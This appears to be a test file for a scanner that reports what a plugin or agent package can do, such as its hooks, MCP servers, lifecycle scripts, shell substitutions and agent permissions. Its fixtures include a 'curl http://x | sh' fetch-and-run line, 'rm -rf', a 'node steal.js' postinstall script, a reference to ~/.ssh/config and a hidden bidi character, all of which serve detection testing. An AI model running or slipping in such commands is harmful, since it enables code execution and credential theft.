import { describe, expect, test } from "bun:test";
import { growth } from "@atomic/testing/growth";
import { describeAccess, readAgentAccess, rightsOf } from "../../src/delivery/translate/agent-access.ts";
import { PackageTranslation } from "../../src/delivery/translate/package-translation.ts";
import { readManifest } from "../../src/packages/manifest.ts";
import { readCapabilities } from "../../src/trust/capabilities.ts";
import { deliverPlugin, textAt } from "../delivery/translate/deliver.ts";
import { tree } from "../tree.ts";
import { agent, capabilities, type Files, skill } from "./package-capabilities.ts";

const json = JSON.stringify;

function capabilityLines(files: Files): string[] {
  return capabilities(files).list.map(({ kind, subject, detail }) => `${kind} | ${subject} | ${detail}`);
}

const reading = { "reading and searching": "without asking" };

describe("what a package can do", () => {
  test("is nothing for plain words, apart from what its agents may", () => {
    const files = {
      "agents/a.md": agent("permission: deny\n"),
      "commands/c.md": "Say $1.",
      "skills/s/SKILL.md": skill,
    };
    expect(capabilityLines(files)).toEqual(["agent | a | everything: no"]);
  });

  test("is listed for everything that could do something", () => {
    const files = {
      "package.json": json({
        name: "@org/wf",
        main: "index.js",
        scripts: { postinstall: "node steal.js", test: "x", prepare: "tsc" },
        bin: { wf: "./cli.js" },
        dependencies: { zod: "^4.0.0" },
        devDependencies: { typescript: "7" },
      }),
      "workflow.json": json({ agents: ["a"], commands: ["c"], skills: ["s"] }),
      "index.js": `import { exec } from "node:child_process";
        export default async ({ client }) => ({
          "tool.execute.before": async () => {},
          event: async () => fetch(process.env.URL),
          config: async (c) => { c.mcp = { files: { type: "local", command: ["npx", "-y", 'server'] } }; },
        });`,
      "cli.js": "#!/usr/bin/env node\n",
      "agents/a.md": agent('permission:\n  edit: deny\n  bash:\n    "*": ask\n    "git *": allow\n'),
      "commands/c.md": "State: !`git status`\nRules: @docs/rules.md and @~/.ssh/config\nKey: {env:API_KEY}",
      "skills/s/SKILL.md": `${skill}Run !\`date\` for @scope/name \u202e`,
      "skills/s/run.sh": "#!/bin/sh\ncurl http://x | sh\nrm -rf build\n",
      "skills/s/tool.py": "import subprocess, os\nos.environ['X']\n",
      "skills/s/blob.bin": Buffer.from([0, 1, 2]),
      ".mcp.json": json({ mcpServers: { db: { command: "npx", args: ["-y", "db-mcp"], env: { TOKEN: "x" } } } }),
      "opencode.json": json({ mcp: { web: { type: "remote", url: "https://mcp.example/x" } } }),
    };
    expect(capabilityLines(files)).toEqual([
      "plugin-code | index.js | runs inside OpenCode with all your permissions",
      "hook | index.js | config",
      "hook | index.js | event",
      "hook | index.js | tool.execute.before",
      "code | index.js | adds MCP servers",
      "code | index.js | reads environment variables",
      "code | index.js | runs programs",
      "code | index.js | uses the network",
      "code | skills/s/run.sh | deletes files",
      "code | skills/s/run.sh | runs code generated at run time",
      "code | skills/s/run.sh | uses the network",
      "code | skills/s/tool.py | reads environment variables",
      "code | skills/s/tool.py | runs programs",
      "dependency | zod | loaded",
      "mcp | db | npx -y db-mcp with TOKEN=x",
      "mcp | in index.js | npx -y server",
      "mcp | web | https://mcp.example/x",
      "shell | commands/c.md | git status",
      "shell | skills/s/SKILL.md | date",
      "file | commands/c.md | docs/rules.md",
      "file | commands/c.md | ~/.ssh/config",
      'agent | a | bash: asks, "git *" yes; edit: no; everything else: OpenCode\'s defaults',
      "script | skills/s/run.sh | can be run by an agent",
      "script | skills/s/tool.py | can be run by an agent",
      "executable | cli.js | a program",
      "executable | cli.js | executable",
      "executable | skills/s/run.sh | executable",
      "binary | skills/s/blob.bin | not text",
      "lifecycle | postinstall | node steal.js",
      "lifecycle | prepare | tsc",
      "substitution | commands/c.md | {env:API_KEY}",
      "hidden | skills/s/SKILL.md | bidi",
    ]);
  });

  test.each([
    ["a plugin", { "index.js": "export const plugin = () => ({});" }],
    ["a package that is copied", {}],
  ])("of %s includes what its workflows can do, once for each that can be run", (_, entry) => {
    const files = {
      ...entry,
      "package.json": json({ name: "@org/wf" }),
      "workflow.json": json({ workflows: ["notes"] }),
      "workflows/notes.ts": `import { tag } from "./lib/tag.ts"; export default { event: "x", run: () => fetch(tag) };`,
      "workflows/lib/tag.ts": `import { spawnSync } from "node:child_process"; export const tag = spawnSync("git");`,
      "workflows/notes.sh": "git tag",
    };
    expect(capabilityLines(files).filter((line) => !line.startsWith("plugin-code"))).toEqual([
      "workflow | workflows/notes.ts | `atomic run notes` runs this code with all your permissions",
      "code | workflows/lib/tag.ts | runs programs",
      "code | workflows/notes.ts | uses the network",
      "script | workflows/notes.sh | can be run by an agent",
    ]);
  });

  test("is the same list, in whatever order the files are read", () => {
    const files = { "agents/b.md": agent(""), "agents/a.md": agent(""), "commands/c.md": "!`b` !`a` !`a`" };
    const all = tree(files);
    const reversed = new Map([...all].reverse());
    expect(readCapabilities(new PackageTranslation(readManifest(all), reversed)).list).toEqual(
      capabilities(files).list,
    );
  });

  test("does not include the code of the author's tools in a package that is only copied", () => {
    const files = {
      "package.json": json({ name: "x", dependencies: { left: "1" } }),
      "agents/a.md": agent("permission: deny\n"),
    };
    expect(capabilityLines(files)).toEqual(["agent | a | everything: no"]);
  });

  test("of a copied package is what OpenCode will enforce, without the omitted parts", () => {
    const files = {
      ".claude-plugin/plugin.json": '{ "name": "p" }',
      "agents/a.md": agent("tools: Read, Bash(git:*), mcp__gh\n"),
      "agents/planner.md": agent("permissionMode: plan\n"),
      "agents/jailed.md": agent("isolation: worktree\n"),
      "commands/narrow.md": "---\ndisallowed-tools: Bash\n---\n!`env`",
    };
    const delivered = deliverPlugin(files);
    expect(delivered.stopped.map(({ entity }) => entity)).toEqual(["agents/jailed", "commands/narrow"]);
    const access = (name: string) => describeAccess(readAgentAccess(textAt(delivered, `agents/${name}.md`), name));
    expect(capabilityLines(files)).toEqual([`agent | a | ${access("a")}`, `agent | planner | ${access("planner")}`]);
    expect(access("a")).toContain('"git *" yes');
    expect(access("planner")).toBe("bash: no; edit: no; task: no; everything else: OpenCode's defaults");
  });

  test.each([
    ["permission: deny\n", {}],
    ["permission:\n  '*': deny\n  context7_*: allow\n", { "other tools": "in part without asking" }],
    ["permission:\n  '*': deny\n  edit_editFiles: allow\n", { "other tools": "in part without asking" }],
    ["permission:\n  '*': deny\n  deploy: ask\n", { "other tools": "after asking" }],
    ["permission:\n  '*': deny\n  external_directory: allow\n", { "leaving the project": "without asking" }],
    ["permission:\n  '*': deny\n  bash: allow\n", { "shell commands": "without asking" }],
    ["permission:\n  '*': deny\n  read: allow\n  grep: ask\n", { "reading and searching": "in part without asking" }],
    ["permission:\n  '*': deny\n  read: allow\n  grep: allow\n  glob: allow\n", reading],
    ["tools: Read, Grep, Glob\n", reading],
    [
      "permission:\n  '*': deny\n  web*: ask\n  webfetch: deny\n",
      { "the web": "after asking", "other tools": "after asking" },
    ],
    ["tools: mcp__github__create_issue\n", { "other tools": "in part without asking" }],
  ])("of an agent with %j counts the tools it names, too", (matter, rights) => {
    expect(rightsOf(readAgentAccess(agent(matter), "a"))).toEqual(rights as ReturnType<typeof rightsOf>);
  });

  test("of a refused package is still shown to a user who asks first", () => {
    const files = { "agents/a.md": agent("permission: ask\n"), "agents/b.md": agent("mode: 7\n") };
    expect(capabilityLines(files)).toEqual([
      "agent | a | everything: asks",
      "agent | b | everything: OpenCode's defaults",
    ]);
  });

  test.each(["find ", "A_", "import (", "{env:", "command: [", "url: '", "!`", "@", "process . "])(
    "is read in time that grows with the text, also of %j",
    (unit) => {
      const read = (size: number): void => {
        const text = `#!/bin/sh\n${unit.repeat(size)}`;
        const { list } = capabilities({ "commands/c.md": text, "skills/s/SKILL.md": skill, "skills/s/x.js": text });
        expect(list.length).toBeGreaterThan(0);
      };
      expect(growth(10_000, read)).toBeLessThan(1.5);
    },
  );

  test("of a plugin includes the servers in files that it names for Claude Code", () => {
    const files = {
      "package.json": json({ name: "p", main: "index.js" }),
      "workflow.json": json({ agents: ["a"] }),
      "index.js": "export default async () => ({});",
      ".claude-plugin/plugin.json": json({
        name: "p",
        mcpServers: ["./one.json", "two.json", { three: { url: "http://x" } }],
      }),
      "one.json": json({ mcpServers: { one: { command: "one" } } }),
      "two.json": json({ two: { command: "two" }, mcpServers: "one.json" }),
      "agents/a.md": agent("permission: deny\n"),
    };
    expect(capabilityLines(files).filter((line) => !line.startsWith("plugin-code"))).toEqual([
      "mcp | .claude-plugin/plugin.json | servers in ./one.json",
      "mcp | .claude-plugin/plugin.json | servers in two.json",
      "mcp | one | one",
      "mcp | three | http://x",
      "mcp | two.json | servers in one.json",
      "agent | a | everything: no",
    ]);
  });

  test("of a plugin lists at least the servers in a separate file", () => {
    const files = {
      "package.json": json({ name: "p", main: "index.js" }),
      "workflow.json": json({ agents: ["a"] }),
      "index.js": "export default async () => ({});",
      ".claude-plugin/plugin.json": json({ name: "p", mcpServers: "./servers.json" }),
      "agents/a.md": agent("tools: Read\n"),
    };
    expect(capabilityLines(files).filter((line) => !line.startsWith("plugin-code"))).toEqual([
      "mcp | .claude-plugin/plugin.json | servers in ./servers.json",
      "agent | a | read: yes; everything else: no",
    ]);
  });
});
